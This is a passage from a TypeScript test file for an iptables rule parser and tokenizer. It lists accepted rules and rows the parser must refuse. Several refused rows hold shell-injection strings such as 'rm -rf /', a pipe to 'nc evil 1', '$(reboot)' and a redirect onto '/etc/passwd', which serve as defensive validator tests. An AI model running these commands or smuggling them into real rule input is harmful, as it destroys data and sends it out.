// SPDX-License-Identifier: GPL-2.0-or-later
/**
 * parseRule / parseSaveLine / tokenize and the address helpers, table-driven.
 * Accepted forms and refusals follow iptables 1.8.9 as observed in throwaway namespaces (see
 * src/rule/parse.ts); error rows assert the code, the path and the offending token with its
 * index, never the message text.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { catchError } from './helpers/assert';
import type { NativeMatch, NativeRule, NativeTarget } from '../src/native-types';
import { formatAddress, formatIpv6, maskToPrefix, parseAddress, prefixToMask } from '../src/rule/address';
import { parseRule, parseSaveLine, tokenize, toNativeRule, toRuleSpec } from '../src/rule/index';
import { parseRule as publicParse } from '../src/index';
import { MAX_RULE_CHARS } from '../src/rule/names';
import type { Family } from '../src/rule/types';

// ---------------------------------------------------------------------------------------------
// helpers

/** A rule as plain data (buffers as hex) so that deep equality is readable. */
function shape(r: NativeRule): unknown {
  const a = (x: NativeRule['src']) => x && { addr: x.addr.toString('hex'), mask: x.mask.toString('hex'), invert: x.invert };
  return { ...r, src: a(r.src), dst: a(r.dst) };
}

function rule(over: Partial<Omit<NativeRule, 'src' | 'dst'>> & { src?: Addr | null; dst?: Addr | null } = {}): unknown {
  return {
    protocol: 0, invProtocol: false, src: null, dst: null, inInterface: null, outInterface: null,
    fragment: null, matches: [], target: { kind: 'none' }, ...over,
  };
}

interface Addr {
  addr: string;
  mask: string;
  invert: boolean;
}

function tcp(over: Partial<Extract<NativeMatch, { kind: 'tcp' }>> = {}): NativeMatch {
  return {
    kind: 'tcp', sport: [0, 65535], dport: [0, 65535], option: 0, flagMask: 0, flagCompare: 0,
    invSport: false, invDport: false, invFlags: false, invOption: false, ...over,
  };
}

function udp(over: Partial<Extract<NativeMatch, { kind: 'udp' }>> = {}): NativeMatch {
  return { kind: 'udp', sport: [0, 65535], dport: [0, 65535], invSport: false, invDport: false, ...over };
}

function connlimit(limit: number, over: Partial<Extract<NativeMatch, { kind: 'connlimit' }>> = {}): NativeMatch {
  return { kind: 'connlimit', limit, invert: false, daddr: false, maskBits: null, ...over };
}

const comment = (text: string): NativeMatch => ({ kind: 'comment', comment: text });
const verdict = (v: 'ACCEPT' | 'DROP' | 'RETURN' | 'QUEUE'): NativeTarget => ({ kind: 'verdict', verdict: v });


// ---------------------------------------------------------------------------------------------
// tokenizer

const TOKENS: { name: string; input: string; expect: string[] }[] = [
  { name: 'spaces and tabs', input: '  -p\ttcp   --dport  22 ', expect: ['-p', 'tcp', '--dport', '22'] },
  { name: 'empty', input: '', expect: [] },
  { name: 'only blanks', input: ' \t ', expect: [] },
  { name: 'double quotes', input: '--comment "a b"', expect: ['--comment', 'a b'] },
  { name: 'save escapes: \\" \\\\ \\\'', input: '"a\\"b" "c\\\\d" "e\\\'f"', expect: ['a"b', 'c\\d', "e'f"] },
  { name: 'single quotes are literal', input: "'a \\ \"b' x", expect: ['a \\ "b', 'x'] },
  { name: 'adjacent parts join', input: `"a"'b'c`, expect: ['abc'] },
  { name: 'empty quoted word', input: '--comment ""', expect: ['--comment', ''] },
  { name: 'quoted metacharacters are plain text', input: `"a;b|c&d$(e)\`f\`<g>"`, expect: ['a;b|c&d$(e)`f`<g>'] },
  { name: 'tab inside quotes is kept', input: '"a\tb"', expect: ['a\tb'] },
  { name: 'unicode', input: '"日本語" é', expect: ['日本語', 'é'] },
];

for (const row of TOKENS) {
  test(`tokenize: ${row.name}`, () => {
    assert.equal(tokenize(row.input).map((t) => t.value), row.expect);
  });
}

test('tokenize: indexes count words', () => {
  assert.equal(tokenize('a "b c" d').map((t) => t.index), [0, 1, 2]);
});

// ---------------------------------------------------------------------------------------------
// accepted rules

const V4_32 = 'ffffffff';
const V6_128 = 'ff'.repeat(16);

const GOOD: { name: string; input: string; family?: Family; expect: unknown }[] = [
  { name: 'empty rule', input: '', expect: rule() },
  { name: 'protocol tcp', input: '-p tcp', expect: rule({ protocol: 6 }) },
  { name: 'protocol by number', input: '-p 17', expect: rule({ protocol: 17 }) },
  { name: 'protocol upper case', input: '-p TCP', expect: rule({ protocol: 6 }) },
  { name: 'protocol long option', input: '--protocol udplite', expect: rule({ protocol: 136 }) },
  { name: 'negated protocol', input: '! -p udp', expect: rule({ protocol: 17, invProtocol: true }) },
  { name: 'protocol all', input: '-p all', expect: rule() },
  { name: 'protocol 0', input: '-p 0', expect: rule() },
  { name: 'icmpv6 is 58', input: '-p icmpv6', expect: rule({ protocol: 58 }) },
  { name: 'ipv6-icmp is 58', input: '-p ipv6-icmp', family: 'ipv6', expect: rule({ protocol: 58 }) },
  { name: 'mh is 135', input: '-p mh', family: 'ipv6', expect: rule({ protocol: 135 }) },
  { name: 'ipv6-mh is 135', input: '-p ipv6-mh', expect: rule({ protocol: 135 }) },
  { name: 'netbase name as save prints it', input: '-p mobility-header', expect: rule({ protocol: 135 }) },
  { name: 'netbase name igmp', input: '-p igmp', expect: rule({ protocol: 2 }) },
  { name: 'gre esp sctp', input: '-p gre', expect: rule({ protocol: 47 }) },
  { name: 'protocol 255', input: '-p 255', expect: rule({ protocol: 255 }) },
  { name: 'ah is fine for ipv4', input: '-p ah', expect: rule({ protocol: 51 }) },
  { name: 'host source', input: '-s 10.1.2.3', expect: rule({ src: { addr: '0a010203', mask: V4_32, invert: false } }) },
  { name: 'cidr is masked', input: '-s 10.1.2.3/24', expect: rule({ src: { addr: '0a010200', mask: 'ffffff00', invert: false } }) },
  { name: 'dotted mask', input: '--source 10.1.2.3/255.255.255.0', expect: rule({ src: { addr: '0a010200', mask: 'ffffff00', invert: false } }) },
  { name: 'non-contiguous mask', input: '-s 10.1.2.3/255.0.255.0', expect: rule({ src: { addr: '0a000200', mask: 'ff00ff00', invert: false } }) },
  { name: '--src alias', input: '--src 1.2.3.4/32', expect: rule({ src: { addr: '01020304', mask: V4_32, invert: false } }) },
  { name: 'any source is no source', input: '-s 0.0.0.0/0', expect: rule() },
  { name: 'any source with a host part', input: '-s 10.0.0.0/0', expect: rule() },
  { name: "old scripts' any source 0/0", input: '-s 0/0', expect: rule() },
  { name: "negated 0/0 is kept", input: '! -d 0/0', expect: rule({ dst: { addr: '00000000', mask: '00000000', invert: true } }) },
  { name: 'negated any source is kept', input: '! -s 0.0.0.0/0', expect: rule({ src: { addr: '00000000', mask: '00000000', invert: true } }) },
  { name: 'negated destination', input: '! -d 192.168.0.0/16', expect: rule({ dst: { addr: 'c0a80000', mask: 'ffff0000', invert: true } }) },
  { name: '--dst alias', input: '--dst 8.8.8.8', expect: rule({ dst: { addr: '08080808', mask: V4_32, invert: false } }) },
  { name: 'ipv6 host', input: '-s ::1', family: 'ipv6', expect: rule({ src: { addr: '0'.repeat(30) + '01', mask: V6_128, invert: false } }) },
  { name: 'ipv6 prefix', input: '-d 2001:db8::1/32', family: 'ipv6', expect: rule({ dst: { addr: '20010db8' + '0'.repeat(24), mask: 'ffffffff' + '0'.repeat(24), invert: false } }) },
  { name: 'ipv6 address-shaped mask', input: '-s 2001:db8::/ffff:0:ffff::', family: 'ipv6', expect: rule({ src: { addr: '20010000' + '0'.repeat(24), mask: 'ffff0000ffff' + '0'.repeat(20), invert: false } }) },
  { name: 'ipv6 upper case', input: '-s 2001:DB8::A', family: 'ipv6', expect: rule({ src: { addr: '20010db8' + '0'.repeat(20) + '000a', mask: V6_128, invert: false } }) },
  { name: 'ipv6 mapped ipv4', input: '-s ::ffff:1.2.3.4/96', family: 'ipv6', expect: rule({ src: { addr: '0'.repeat(20) + 'ffff00000000', mask: 'ff'.repeat(12) + '00000000', invert: false } }) },
  { name: 'interface', input: '-i eth0', expect: rule({ inInterface: { name: 'eth0', wildcard: false, invert: false } }) },
  { name: 'wildcard interface', input: '-i eth+', expect: rule({ inInterface: { name: 'eth', wildcard: true, invert: false } }) },
  { name: 'negated out interface', input: '! -o veth+', expect: rule({ outInterface: { name: 'veth', wildcard: true, invert: true } }) },
  { name: 'bare + is any interface', input: '-i +', expect: rule() },
  { name: '15-character interface', input: '--in-interface 123456789012345', expect: rule({ inInterface: { name: '123456789012345', wildcard: false, invert: false } }) },
  { name: 'vlan and bridge names', input: '-i eth0.100 -o br-1a2b', expect: rule({ inInterface: { name: 'eth0.100', wildcard: false, invert: false }, outInterface: { name: 'br-1a2b', wildcard: false, invert: false } }) },
  { name: 'fragment', input: '-f', expect: rule({ fragment: true }) },
  { name: 'not fragment', input: '! --fragment', expect: rule({ fragment: false }) },
  { name: 'implicit tcp match', input: '-p tcp --dport 22', expect: rule({ protocol: 6, matches: [tcp({ dport: [22, 22] })] }) },
  { name: 'explicit tcp match', input: '-p tcp -m tcp --sport 1', expect: rule({ protocol: 6, matches: [tcp({ sport: [1, 1] })] }) },
  { name: '-m tcp before -p tcp', input: '-m tcp -p tcp --dport 22', expect: rule({ protocol: 6, matches: [tcp({ dport: [22, 22] })] }) },
  { name: 'bare -m tcp', input: '-p tcp -m tcp', expect: rule({ protocol: 6, matches: [tcp()] }) },
  { name: 'protocol by number creates tcp match', input: '-p 6 --dport 22', expect: rule({ protocol: 6, matches: [tcp({ dport: [22, 22] })] }) },
  { name: 'range', input: '-p tcp --dport 1024:65535', expect: rule({ protocol: 6, matches: [tcp({ dport: [1024, 65535] })] }) },
  { name: 'open low range', input: '-p tcp --dport :1023', expect: rule({ protocol: 6, matches: [tcp({ dport: [0, 1023] })] }) },
  { name: 'open high range', input: '-p tcp --sport 1024:', expect: rule({ protocol: 6, matches: [tcp({ sport: [1024, 65535] })] }) },
  { name: 'colon alone is every port', input: '-p tcp --dport :', expect: rule({ protocol: 6, matches: [tcp()] }) },
  { name: 'port 0', input: '-p tcp --dport 0', expect: rule({ protocol: 6, matches: [tcp({ dport: [0, 0] })] }) },
  { name: 'long port options', input: '-p tcp --destination-port 22 --source-port 1', expect: rule({ protocol: 6, matches: [tcp({ sport: [1, 1], dport: [22, 22] })] }) },
  { name: 'negated ports', input: '-p tcp ! --sport 1 ! --dport 2:3', expect: rule({ protocol: 6, matches: [tcp({ sport: [1, 1], dport: [2, 3], invSport: true, invDport: true })] }) },
  { name: 'syn', input: '-p tcp --syn', expect: rule({ protocol: 6, matches: [tcp({ flagMask: 0x17, flagCompare: 0x02 })] }) },
  { name: 'not syn', input: '-p tcp ! --syn', expect: rule({ protocol: 6, matches: [tcp({ flagMask: 0x17, flagCompare: 0x02, invFlags: true })] }) },
  { name: 'tcp flags', input: '-p tcp --tcp-flags SYN,ACK SYN', expect: rule({ protocol: 6, matches: [tcp({ flagMask: 0x12, flagCompare: 0x02 })] }) },
  { name: 'tcp flags ALL NONE', input: '-p tcp --tcp-flags ALL NONE', expect: rule({ protocol: 6, matches: [tcp({ flagMask: 0x3f, flagCompare: 0 })] }) },
  { name: 'tcp flags lower case, repeated', input: '-p tcp --tcp-flags syn,SYN,fin syn', expect: rule({ protocol: 6, matches: [tcp({ flagMask: 0x03, flagCompare: 0x02 })] }) },
  { name: 'negated tcp flags', input: '-p tcp ! --tcp-flags SYN,RST RST', expect: rule({ protocol: 6, matches: [tcp({ flagMask: 0x06, flagCompare: 0x04, invFlags: true })] }) },
  { name: 'tcp option', input: '-p tcp ! --tcp-option 2', expect: rule({ protocol: 6, matches: [tcp({ option: 2, invOption: true })] }) },
  { name: 'udp ports', input: '-p udp --sport 1:2 ! --dport 3:4', expect: rule({ protocol: 17, matches: [udp({ sport: [1, 2], dport: [3, 4], invDport: true })] }) },
  { name: 'explicit udp', input: '-m udp -p udp --dport 53', expect: rule({ protocol: 17, matches: [udp({ dport: [53, 53] })] }) },
  { name: 'connlimit above', input: '-m connlimit --connlimit-above 2', expect: rule({ matches: [connlimit(2)] }) },
  { name: 'connlimit upto', input: '-m connlimit --connlimit-upto 2', expect: rule({ matches: [connlimit(2, { invert: true })] }) },
  { name: '! above is upto', input: '-m connlimit ! --connlimit-above 5', expect: rule({ matches: [connlimit(5, { invert: true })] }) },
  { name: '! upto is above', input: '-m connlimit ! --connlimit-upto 5', expect: rule({ matches: [connlimit(5)] }) },
  { name: 'connlimit mask 32 is kept apart from no mask', input: '-m connlimit --connlimit-above 2 --connlimit-mask 32', expect: rule({ matches: [connlimit(2, { maskBits: 32 })] }) },
  { name: 'connlimit mask 0', input: '-m connlimit --connlimit-above 2 --connlimit-mask 0', expect: rule({ matches: [connlimit(2, { maskBits: 0 })] }) },
  { name: 'connlimit dotted mask', input: '-m connlimit --connlimit-above 2 --connlimit-mask 255.255.0.0', expect: rule({ matches: [connlimit(2, { maskBits: 16 })] }) },
  { name: 'connlimit daddr', input: '-m connlimit --connlimit-daddr --connlimit-upto 1', expect: rule({ matches: [connlimit(1, { invert: true, daddr: true })] }) },
  { name: 'connlimit saddr', input: '-m connlimit --connlimit-saddr --connlimit-above 1', expect: rule({ matches: [connlimit(1)] }) },
  { name: 'connlimit max count', input: '-m connlimit --connlimit-above 4294967295', expect: rule({ matches: [connlimit(4294967295)] }) },
  { name: 'connlimit ipv6 mask 128', input: '-m connlimit --connlimit-above 2 --connlimit-mask 128', family: 'ipv6', expect: rule({ matches: [connlimit(2, { maskBits: 128 })] }) },
  { name: 'connlimit option after the target', input: '-m connlimit --connlimit-above 2 -j DROP --connlimit-mask 24', expect: rule({ matches: [connlimit(2, { maskBits: 24 })], target: verdict('DROP') }) },
  { name: 'comment', input: '-m comment --comment hello', expect: rule({ matches: [comment('hello')] }) },
  { name: 'comment as save quotes it', input: '-m comment --comment "a\\"b \\\'c\\\' \\\\d"', expect: rule({ matches: [comment('a"b \'c\' \\d')] }) },
  { name: 'comment with shell text inside quotes', input: `-m comment --comment '22; rm -rf / $(reboot) \`id\` && x | y'`, expect: rule({ matches: [comment('22; rm -rf / $(reboot) `id` && x | y')] }) },
  { name: 'empty comment', input: '-m comment --comment ""', expect: rule({ matches: [comment('')] }) },
  { name: 'comment "!" and "-x"', input: '-m comment --comment -x', expect: rule({ matches: [comment('-x')] }) },
  { name: 'comment of 255 bytes', input: `-m comment --comment ${'x'.repeat(255)}`, expect: rule({ matches: [comment('x'.repeat(255))] }) },
  { name: 'comment of 127 two-byte characters', input: `-m comment --comment ${'é'.repeat(127)}`, expect: rule({ matches: [comment('é'.repeat(127))] }) },
  { name: 'accept', input: '-j ACCEPT', expect: rule({ target: verdict('ACCEPT') }) },
  { name: 'drop long option', input: '--jump DROP', expect: rule({ target: verdict('DROP') }) },
  { name: 'return', input: '-j RETURN', expect: rule({ target: verdict('RETURN') }) },
  { name: 'queue', input: '-j QUEUE', expect: rule({ target: verdict('QUEUE') }) },
  { name: 'jump', input: '-j CL_SSH', expect: rule({ target: { kind: 'jump', chain: 'CL_SSH' } }) },
  { name: 'jump punctuation', input: '-j cl.chain:x@y+z-1', expect: rule({ target: { kind: 'jump', chain: 'cl.chain:x@y+z-1' } }) },
  { name: 'jump 28 characters', input: `-j ${'C'.repeat(28)}`, expect: rule({ target: { kind: 'jump', chain: 'C'.repeat(28) } }) },
  { name: 'goto', input: '--goto CL_SSH', expect: rule({ target: { kind: 'goto', chain: 'CL_SSH' } }) },
  { name: 'reject default v4', input: '-j REJECT', expect: rule({ target: { kind: 'reject', with: 'icmp-port-unreachable' } }) },
  { name: 'reject default v6', input: '-j REJECT', family: 'ipv6', expect: rule({ target: { kind: 'reject', with: 'icmp6-port-unreachable' } }) },
  { name: 'reject alias', input: '-j REJECT --reject-with admin-prohib', expect: rule({ target: { kind: 'reject', with: 'icmp-admin-prohibited' } }) },
  { name: 'reject upper case', input: '-j REJECT --reject-with ICMP-HOST-PROHIBITED', expect: rule({ target: { kind: 'reject', with: 'icmp-host-prohibited' } }) },
  { name: 'reject tcp-rst alias', input: '-p tcp -j REJECT --reject-with tcp-rst', expect: rule({ protocol: 6, target: { kind: 'reject', with: 'tcp-reset' } }) },
  { name: 'reject v6 alias', input: '-j REJECT --reject-with adm-prohibited', family: 'ipv6', expect: rule({ target: { kind: 'reject', with: 'icmp6-adm-prohibited' } }) },
  { name: 'reject v6 tcp-reset', input: '-p tcp -j REJECT --reject-with tcp-reset', family: 'ipv6', expect: rule({ protocol: 6, target: { kind: 'reject', with: 'tcp-reset' } }) },
  { name: 'reject with protocol by number', input: '-p 6 -j REJECT --reject-with tcp-reset', expect: rule({ protocol: 6, target: { kind: 'reject', with: 'tcp-reset' } }) },
  {
    name: 'tcp match created where its first option stands',
    input: '-p tcp -m connlimit --connlimit-above 2 --dport 22',
    expect: rule({ protocol: 6, matches: [connlimit(2), tcp({ dport: [22, 22] })] }),
  },
  {
    name: 'later tcp option joins the existing tcp match',
    input: '-p tcp --dport 22 -m connlimit --connlimit-above 2 --syn',
    expect: rule({ protocol: 6, matches: [tcp({ dport: [22, 22], flagMask: 0x17, flagCompare: 0x02 }), connlimit(2)] }),
  },
  {
    name: 'comment first, match order kept',
    input: '-m comment --comment x -p tcp --dport 22 -m connlimit --connlimit-above 3',
    expect: rule({ protocol: 6, matches: [comment('x'), tcp({ dport: [22, 22] }), connlimit(3)] }),
  },
  {
    name: 'the man page recipe',
    input: '-p tcp --syn --dport 23 -m connlimit --connlimit-above 2 -j REJECT',
    expect: rule({ protocol: 6, matches: [tcp({ dport: [23, 23], flagMask: 0x17, flagCompare: 0x02 }), connlimit(2)], target: { kind: 'reject', with: 'icmp-port-unreachable' } }),
  },
  {
    name: 'everything',
    input: '! -s 10.0.0.0/8 -d 1.2.3.4 -i eth0 ! -o eth1 -p tcp ! -f --sport 1024: --dport 443 --tcp-option 8 -m connlimit --connlimit-upto 10 --connlimit-mask 24 --connlimit-daddr -m comment --comment "web clients" -g LIMITS',
    expect: rule({
      protocol: 6,
      src: { addr: '0a000000', mask: 'ff000000', invert: true },
      dst: { addr: '01020304', mask: V4_32, invert: false },
      inInterface: { name: 'eth0', wildcard: false, invert: false },
      outInterface: { name: 'eth1', wildcard: false, invert: true },
      fragment: false,
      matches: [tcp({ sport: [1024, 65535], dport: [443, 443], option: 8 }), connlimit(10, { invert: true, maskBits: 24, daddr: true }), comment('web clients')],
      target: { kind: 'goto', chain: 'LIMITS' },
    }),
  },
];

for (const row of GOOD) {
  test(`parse ok: ${row.name}`, () => {
    assert.equal(shape(parseRule(row.input, row.family ?? 'ipv4')), row.expect);
  });
}

test('parseSaveLine: chain and rule', () => {
  const { chain, rule: r } = parseSaveLine('-A INPUT -p tcp -m tcp --dport 22 -j ACCEPT', 'ipv4');
  assert.is(chain, 'INPUT');
  assert.equal(shape(r), rule({ protocol: 6, matches: [tcp({ dport: [22, 22] })], target: verdict('ACCEPT') }));
});

test('parseSaveLine: --append and a user chain with punctuation', () => {
  const { chain, rule: r } = parseSaveLine('--append cl.x:y@z -j RETURN', 'ipv6');
  assert.is(chain, 'cl.x:y@z');
  assert.equal(shape(r), rule({ target: verdict('RETURN') }));
});

test('parseSaveLine: -o is fine in OUTPUT and FORWARD', () => {
  assert.is(parseSaveLine('-A OUTPUT -o eth0', 'ipv4').rule.outInterface?.name, 'eth0');
  assert.is(parseSaveLine('-A FORWARD -i a -o b', 'ipv4').rule.inInterface?.name, 'a');
});

// ---------------------------------------------------------------------------------------------
// refused rules

interface BadRow {
  name: string;
  input: string;
  family?: Family;
  /** parseSaveLine instead of parseRule */
  line?: boolean;
  expect: { token: string | undefined; index: number | undefined; path?: string };
}

const rows: BadRow[] = [];
function bad(name: string, input: string, token: string | undefined, index: number | undefined, opts: { family?: Family; line?: boolean; path?: string } = {}): void {
  rows.push({ name, input, family: opts.family, line: opts.line, expect: { token, index, path: opts.path } });
}

// tokenizer: NUL, control characters, quotes, shell metacharacters
bad('NUL byte', '-p tcp\0', 'tcp', 1);
bad('NUL byte in quotes', '-m comment --comment "a\0b"', 'a', 3);
bad('NUL byte in single quotes', "-m comment --comment 'a\0b'", 'a', 3);
bad('NUL byte escaped in double quotes', '-m comment --comment "a\\\0b"', 'a', 3);
bad('newline: a rule is one line', '-j ACCEPT\n-A INPUT -j DROP', 'ACCEPT', 1);
bad('carriage return', '-j ACCEPT\r', 'ACCEPT', 1);
bad('newline inside quotes', '-m comment --comment "a\nb"', 'a', 3);
bad('escape character', '-j \u001b[31m', '', 1);
bad('unterminated double quote', '-m comment --comment "abc', 'abc', 3);
bad('unterminated single quote', "-m comment --comment 'abc", 'abc', 3);
bad('backslash at the very end inside quotes', '-m comment --comment "abc\\', 'abc', 3);
bad('backslash outside quotes', '-m comment --comment a\\ b', 'a\\ b', 3);
bad('semicolon injection', '-p tcp --dport 22; rm -rf /', '22;', 3);
bad('semicolon alone', '-j ACCEPT ; reboot', ';', 2);
bad('pipe', '-p tcp --dport 22 | nc evil 1', '|', 4);
bad('and-and', '-j ACCEPT && reboot', '&&', 2);
bad('background &', '-j ACCEPT &', '&', 2);
bad('backticks', '-j `reboot`', '`reboot`', 1);
bad('command substitution', '-i $(reboot)', '$(reboot)', 1);
bad('variable', '-j $CHAIN', '$CHAIN', 1);
bad('redirection', '-j ACCEPT > /etc/passwd', '>', 2);
bad('input redirection', '-s <(x)', '<(x)', 1);
bad('subshell', '(-j ACCEPT)', '(-j', 0);
// options
bad('unknown option', '--foo', '--foo', 0);
bad('unknown long option after -p tcp', '-p tcp --dports 22', '--dports', 2);
bad('unknown short option', '-z', '-z', 0);
bad('abbreviated long option (getopt would take it)', '--sour 1.2.3.4', '--sour', 0);
bad('option=value', '-p tcp --dport=22', '--dport=22', 2);
bad('command -I', '-I INPUT -j ACCEPT', '-I', 0);
bad('command -D', '-D INPUT 1', '-D', 0);
bad('table option', '-t nat -j ACCEPT', '-t', 0);
bad('wait option', '-w -j ACCEPT', '-w', 0);
bad('counters option', '-c 0 0 -j ACCEPT', '-c', 0);
bad('-A in parseRule', '-A INPUT -j ACCEPT', '-A', 0);
bad('-A in the middle', '-j ACCEPT -A INPUT', '-A', 2);
bad('a bare word', 'tcp', 'tcp', 0);
bad('a word after a complete option', '-p tcp 22', '22', 2);
bad('trailing !', '-p tcp --syn !', '!', 3);
bad('lone !', '!', '!', 0);
bad('two ! in a row', '-p tcp ! ! --syn', '!', 3);
bad('two ! before -p', '! ! -p tcp', '!', 1);
// protocol
bad('missing protocol', '-p', '-p', 0);
bad('unknown protocol', '-p foo', 'foo', 1);
bad('protocol 256', '-p 256', '256', 1);
bad('negative protocol', '-p -1', '-1', 1);
bad('hex protocol', '-p 0x6', '0x6', 1);
bad('octal-looking protocol', '-p 06', '06', 1);
bad('protocol twice', '-p tcp -p udp', '-p', 2);
bad('protocol twice via long option', '-p tcp --protocol tcp', '--protocol', 2);
bad('! after -p', '-p ! tcp', '!', 1);
bad('! -p all never matches', '! -p all', 'all', 2);
bad('! -p 0 never matches', '! -p 0', '0', 2);
bad('protocol with quoted metacharacters', '-p "tcp;ls"', 'tcp;ls', 1);
bad('option as protocol value', '-p -s 1.2.3.4', '-s', 1);
bad('ipv6 extension header ah', '-p ah', 'ah', 1, { family: 'ipv6' });
bad('ipv6 extension header 43', '-p 43', '43', 1, { family: 'ipv6' });
bad('ipv6 extension header 44', '-p 44', '44', 1, { family: 'ipv6' });
bad('ipv6 extension header 60', '-p 60', '60', 1, { family: 'ipv6' });
// addresses
bad('prefix over 32', '-s 1.2.3.4/33', '1.2.3.4/33', 1);
bad('prefix over 128', '-s ::1/129', '::1/129', 1, { family: 'ipv6' });
bad('ipv6 address in an ipv4 rule', '-s ::1', '::1', 1);
bad('ipv4 address in an ipv6 rule', '-d 1.2.3.4', '1.2.3.4', 1, { family: 'ipv6' });
bad('mapped ipv6 in an ipv4 rule', '-s ::ffff:1.2.3.4', '::ffff:1.2.3.4', 1);
bad('host name', '-s localhost', 'localhost', 1);
bad('dns name', '-d example.com', 'example.com', 1);
bad('dns name ipv6', '-d ipv6.example.com', 'ipv6.example.com', 1, { family: 'ipv6' });
bad('comma list', '-s 1.2.3.4,5.6.7.8', '1.2.3.4,5.6.7.8', 1);
bad('octet over 255', '-s 1.2.3.256', '1.2.3.256', 1);
bad('short form 10/8', '-s 10/8', '10/8', 1);
bad('three octets', '-s 1.2.3', '1.2.3', 1);
bad('short form 0 without /0', '-s 0', '0', 1);
bad('short form 0/8', '-s 0/8', '0/8', 1);
bad('hex address', '-s 0x01020304', '0x01020304', 1);
bad('leading zeros', '-s 001.002.003.004', '001.002.003.004', 1);
bad('empty mask', '-s 1.2.3.4/', '1.2.3.4/', 1);
bad('mask with leading zero', '-s 1.2.3.4/08', '1.2.3.4/08', 1);
bad('mask with plus', '-s 1.2.3.4/+8', '1.2.3.4/+8', 1);
bad('negative mask', '-s 1.2.3.4/-1', '1.2.3.4/-1', 1);
bad('two masks', '-s 1.2.3.4/24/24', '1.2.3.4/24/24', 1);
bad('mask with letters', '-s 1.2.3.4/8a', '1.2.3.4/8a', 1);
bad('zone id', '-s fe80::1%eth0', 'fe80::1%eth0', 1, { family: 'ipv6' });
bad('brackets', '-s [::1]', '[::1]', 1, { family: 'ipv6' });
bad('nine groups', '-s 1:2:3:4:5:6:7:8:9', '1:2:3:4:5:6:7:8:9', 1, { family: 'ipv6' });
bad('two ::', '-s 1::2::3', '1::2::3', 1, { family: 'ipv6' });
bad('empty address', '-s ""', '', 1);
bad('source twice', '-s 1.2.3.4 -s 5.6.7.8', '-s', 2);
bad('source and --src', '-s 1.2.3.4 --src 5.6.7.8', '--src', 2);
bad('! after -s', '-s ! 1.2.3.4', '!', 1);
bad('missing destination', '-d', '-d', 0);
// interfaces
bad('interface of 16 characters', '-i 1234567890123456', '1234567890123456', 1);
bad('interface with a space', '-i "a b"', 'a b', 1);
bad('interface with a slash', '-i a/b', 'a/b', 1);
bad('interface with a colon', '-i eth0:1', 'eth0:1', 1);
bad('interface ..', '-i ..', '..', 1);
bad('interface .', '-o .', '.', 1);
bad('option as interface', '-i -x', '-x', 1);
bad('empty interface', '-i ""', '', 1);
bad('non-ascii interface', '-i é', 'é', 1);
bad('! + never matches', '! -i +', '+', 2);
bad('interface twice', '-i x -i y', '-i', 2);
bad('quoted semicolon in interface', '-i "a;b"', 'a;b', 1);
bad('quoted pipe in interface', '-o "a|b"', 'a|b', 1);
bad('quoted command substitution in interface', '-i "$(reboot)"', '$(reboot)', 1);
bad('interface starting with !', '-i !eth0', '!eth0', 1);
bad('double plus', '-i eth++', 'eth++', 1);
bad('! after -i', '-i ! eth0', '!', 1);
bad('-o in INPUT', '-A INPUT -o eth0', '-o', 2, { line: true });
bad('-o in PREROUTING', '-A PREROUTING -o eth0', '-o', 2, { line: true });
bad('-i in OUTPUT', '-A OUTPUT -i eth0', '-i', 2, { line: true });
bad('-i in POSTROUTING', '-A POSTROUTING ! -i eth0', '-i', 3, { line: true });
// fragment
bad('-f on ipv6', '-f', '-f', 0, { family: 'ipv6' });
bad('-f twice', '-f -f', '-f', 1);
bad('-f and ! -f', '-f ! -f', '-f', 2);
// tcp and udp
bad('--dport without -p', '--dport 22', '--dport', 0);
bad('! --dport before -p', '! --dport 22 -p tcp', '--dport', 1);
bad('--dport with -p all', '-p all --dport 22', '--dport', 2);
bad('--dport with -p icmp', '-p icmp --dport 22', '--dport', 2);
bad('--dport with ! -p tcp', '! -p tcp --dport 22', '--dport', 3);
bad('--syn with udp', '-p udp --syn', '--syn', 2);
bad('--tcp-flags with udp', '-p udp --tcp-flags SYN SYN', '--tcp-flags', 2);
bad('--tcp-option with udp', '-p udp --tcp-option 2', '--tcp-option', 2);
bad('--syn on an explicit udp match', '-p udp -m udp --syn', '--syn', 4);
bad('port 65536', '-p tcp --dport 65536', '65536', 3);
bad('negative port', '-p tcp --dport -1', '-1', 3);
bad('service name', '-p tcp --dport ssh', 'ssh', 3);
bad('hex port', '-p tcp --dport 0x16', '0x16', 3);
bad('octal-looking port', '-p tcp --dport 022', '022', 3);
bad('backwards range', '-p tcp --dport 80:22', '80:22', 3);
bad('port list', '-p tcp --dport 22,23', '22,23', 3);
bad('three-part range', '-p tcp --dport 1:2:3', '1:2:3', 3);
bad('empty port', '-p tcp --dport ""', '', 3);
bad('port with spaces', '-p tcp --dport " 22"', ' 22', 3);
bad('fractional port', '-p tcp --sport 22.5', '22.5', 3);
bad('! after --dport', '-p tcp --dport ! 22', '!', 3);
bad('--dport twice', '-p tcp --dport 22 --dport 23', '--dport', 4);
bad('--sport and --source-port', '-p tcp --sport 22 --source-port 23', '--source-port', 4);
bad('! every port never matches', '-p tcp ! --dport 0:65535', '0:65535', 4);
bad('! colon never matches', '-p udp ! --sport :', ':', 4);
bad('--syn and --tcp-flags', '-p tcp --syn --tcp-flags SYN SYN', '--tcp-flags', 3);
bad('--syn twice', '-p tcp --syn --syn', '--syn', 3);
bad('--tcp-flags with one value', '-p tcp --tcp-flags SYN', '--tcp-flags', 2);
bad('unknown tcp flag', '-p tcp --tcp-flags FOO SYN', 'FOO', 3);
bad('unknown compared flag', '-p tcp --tcp-flags SYN ECE', 'ECE', 4);
bad('empty flag list', '-p tcp --tcp-flags "" SYN', '', 3);
bad('compared flags outside the mask never match', '-p tcp --tcp-flags NONE SYN', 'SYN', 4);
bad('compared flags partly outside the mask', '-p tcp --tcp-flags SYN,ACK SYN,ACK,FIN', 'SYN,ACK,FIN', 4);
bad('tcp option 0', '-p tcp --tcp-option 0', '0', 3);
bad('tcp option 256', '-p tcp --tcp-option 256', '256', 3);
bad('tcp option twice', '-p tcp --tcp-option 2 --tcp-option 3', '--tcp-option', 4);
bad('-m tcp with -p udp', '-p udp -m tcp --dport 22', 'tcp', 3);
bad('-m tcp without -p', '-m tcp --dport 22', 'tcp', 1);
bad('-m udp with -p tcp', '-p tcp -m udp', 'udp', 3);
bad('-m tcp with ! -p tcp', '! -p tcp -m tcp', 'tcp', 4);
bad('two -m tcp', '-p tcp -m tcp -m tcp', 'tcp', 5);
bad('-m tcp after an implicit tcp match', '-p tcp --dport 22 -m tcp --sport 1', 'tcp', 5);
// connlimit
